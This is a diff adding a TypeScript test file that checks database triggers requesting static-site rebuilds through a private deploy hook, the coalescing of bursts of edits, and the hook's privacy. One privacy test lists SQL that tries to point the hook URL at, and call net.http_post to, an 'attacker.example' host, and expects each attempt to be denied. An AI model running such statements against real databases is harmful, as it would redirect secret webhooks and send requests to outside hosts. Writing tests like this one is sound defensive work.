@@ -1,0 +1,170 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { SupabaseClient } from '@supabase/supabase-js';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { Database } from '../../shared/src/database.types.ts';
+import { DEMO_ADMIN, startTestStack, type TestStack } from './support/stack.ts';
+
+// Content the static site bakes in must reach it: a change asks the deploy hook for a rebuild (through
+// net.http_post, delivered by the stack as pg_net does when hosted), once per burst, and the hook URL
+// (a secret) stays out of reach of every API role.
+
+let stack: TestStack;
+let admin: SupabaseClient<Database>;
+let hook: Server;
+let hookUrl: string;
+const received: { table: string; operation: string }[] = [];
+
+beforeAll(async () => {
+  stack = await startTestStack();
+  admin = await stack.signedIn(DEMO_ADMIN);
+  hook = createServer((request, response) => {
+    let body = '';
+    request.on('data', (chunk) => {
+      body += chunk;
+    });
+    request.on('end', () => {
+      received.push(JSON.parse(body));
+      response.writeHead(200).end();
+    });
+  });
+  await new Promise<void>((resolve) => hook.listen(0, '127.0.0.1', resolve));
+  hookUrl = `http://127.0.0.1:${(hook.address() as AddressInfo).port}/hooks/rebuild`;
+});
+afterAll(async () => {
+  await stack.close();
+  hook.close();
+});
+
+async function useHook(minInterval: string): Promise<void> {
+  await stack.engine.owner.query('delete from private.site_rebuild_hooks');
+  await stack.engine.owner.query('delete from net.http_request_queue');
+  await stack.engine.owner.query(
+    `insert into private.site_rebuild_hooks (name, url, min_interval) values ('site', $1, $2::interval)`,
+    [hookUrl, minInterval],
+  );
+  received.length = 0;
+}
+
+async function queued(): Promise<number> {
+  const { rows } = await stack.engine.owner.query<{ n: number }>(
+    'select count(*)::int as n from net.http_request_queue',
+  );
+  return rows[0]?.n ?? 0;
+}
+
+const news = (title: string) => ({ title, summary: 'Rebuild hook test' });
+
+describe('a content change requests a rebuild', () => {
+  beforeEach(() => useHook('0 seconds'));
+
+  it("an admin's new news article reaches the deploy hook, naming the table", async () => {
+    const { error } = await admin.from('news').insert(news('Hook delivery'));
+    expect(error).toBeNull();
+    await expect.poll(() => received.length, { timeout: 10_000 }).toBe(1);
+    expect(received[0]).toEqual({ reason: 'content changed', table: 'news', operation: 'INSERT' });
+  });
+
+  it("a university's new name, and deleting it (with its programs), each request one rebuild", async () => {
+    const { data, error } = await admin
+      .from('universities_data')
+      .insert({ university_name: 'Hook University' })
+      .select('id')
+      .single();
+    expect(error).toBeNull();
+    await admin
+      .from('universities_data')
+      .update({ university_name: 'Renamed University' })
+      .eq('id', data?.id ?? 0);
+    await admin
+      .from('universities_data')
+      .delete()
+      .eq('id', data?.id ?? 0);
+    expect(await queued()).toBe(3);
+  });
+
+  it('one statement or transaction changing many rows requests one rebuild, not one per row', async () => {
+    const { error } = await admin.from('news').insert([news('Bulk 1'), news('Bulk 2'), news('Bulk 3')]);
+    expect(error).toBeNull();
+    expect(await queued()).toBe(1);
+  });
+
+  it('every table the site bakes in requests a rebuild; visitor submissions do not', async () => {
+    const baked = [
+      'universities_data',
+      'programs',
+      'accommodation_options',
+      'pricing_plans',
+      'news',
+      'videos',
+      'careers',
+      'testimonials',
+    ];
+    const { rows } = await stack.engine.owner.query<{ table_name: string }>(
+      `select c.relname as table_name from pg_trigger t join pg_class c on c.oid = t.tgrelid
+       where t.tgname = 'request_site_rebuild' order by 1`,
+    );
+    expect(rows.map((row) => row.table_name)).toEqual([...baked].sort());
+    await stack
+      .anon()
+      .from('community_blog_posts')
+      .insert({ title: 'Not baked', content: 'Stories load at run time', author: 'Test' });
+    expect(await queued()).toBe(0);
+  });
+});
+
+describe('bursts are coalesced', () => {
+  beforeEach(() => useHook('1 hour'));
+
+  it('several separate edits inside the window request one rebuild', async () => {
+    for (const title of ['Burst 1', 'Burst 2', 'Burst 3', 'Burst 4']) {
+      const { error } = await admin.from('news').insert(news(title));
+      expect(error).toBeNull();
+    }
+    await admin.from('videos').update({ description: 'Burst' }).eq('id', 1);
+    expect(await queued()).toBe(1);
+  });
+
+  it('a disabled hook is not called', async () => {
+    await stack.engine.owner.query('update private.site_rebuild_hooks set enabled = false');
+    await admin.from('news').insert(news('Disabled hook'));
+    expect(await queued()).toBe(0);
+  });
+});
+
+describe('the hook is private', () => {
+  it('no API role can read or change the hook URLs, or call net.http_post', async () => {
+    await useHook('0 seconds');
+    for (const role of ['anon', 'authenticated']) {
+      for (const sql of [
+        'select url from private.site_rebuild_hooks',
+        `update private.site_rebuild_hooks set url = 'https://attacker.example/'`,
+        `select net.http_post('https://attacker.example/')`,
+      ]) {
+        const outcome = await stack.engine
+          .transaction(async (tx) => {
+            await tx.query(`select set_config('role', $1, true)`, [role]);
+            await tx.query(sql);
+            return 'allowed';
+          })
+          .catch((error: { code?: string }) => error.code);
+        expect(outcome, `${role}: ${sql}`).toBe('42501');
+      }
+    }
+  });
+
+  it("a hook that cannot be reached never fails the admin's write", async () => {
+    await stack.engine.owner.query(`update private.site_rebuild_hooks set url = 'http://127.0.0.1:9/unreachable'`);
+    const { error, status } = await admin.from('news').insert(news('Unreachable hook'));
+    expect(error).toBeNull();
+    expect(status).toBe(201);
+    await expect
+      .poll(async () => {
+        const { rows } = await stack.engine.owner.query<{ n: number }>(
+          'select count(*)::int as n from net.http_request_queue where delivered_at is null',
+        );
+        return rows[0]?.n;
+      })
+      .toBe(0);
+  });
+});
